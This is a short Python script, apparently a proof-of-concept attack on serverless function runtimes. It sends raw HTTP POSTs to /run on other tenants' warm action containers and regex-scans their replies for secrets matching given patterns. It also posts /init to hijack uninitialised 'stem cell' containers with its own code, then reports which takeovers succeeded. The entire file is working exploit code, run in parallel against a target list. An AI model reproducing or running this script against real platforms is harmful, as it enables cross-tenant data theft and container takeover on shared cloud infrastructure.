# POSTs /run and /init to every runtime address it is given ("host:port" or "unix:/path"):
# /run to read what another namespace's warm action answers, /init to take a stem cell.
import json
import re
import socket
from concurrent.futures import ThreadPoolExecutor

CODE = "def main(args):\n    return {'taken': True}\n"


def post(target, path, body):
    if target.startswith("unix:"):
        sock = socket.socket(socket.AF_UNIX)
        address = target[5:]
    else:
        host, _, port = target.rpartition(":")
        sock = socket.socket()
        address = (host, int(port))
    sock.settimeout(3)
    try:
        sock.connect(address)
        data = json.dumps(body).encode()
        sock.sendall(
            f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(data)}\r\nConnection: close\r\n\r\n".encode()
            + data
        )
        reply = b""
        while chunk := sock.recv(65536):
            reply += chunk
        return reply.decode("latin-1")
    except OSError as e:
        return f"error: {e}"
    finally:
        sock.close()


def attack(target):
    run = post(target, "/run", {"value": {}})
    init = post(
        target, "/init", {"value": {"name": "x", "main": "main", "code": CODE, "binary": False}}
    )
    return target, run, init


def main(args):
    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(attack, args.get("targets", [])))
    text = "".join(run for _, run, _ in results)
    return {
        "found": sorted({m for p in args.get("patterns", []) for m in re.findall(p, text)}),
        "initialized": [t for t, _, init in results if init.startswith("HTTP/1.1 200")],
        "report": {t: [run[:120], init[:120]] for t, run, init in results},
    }
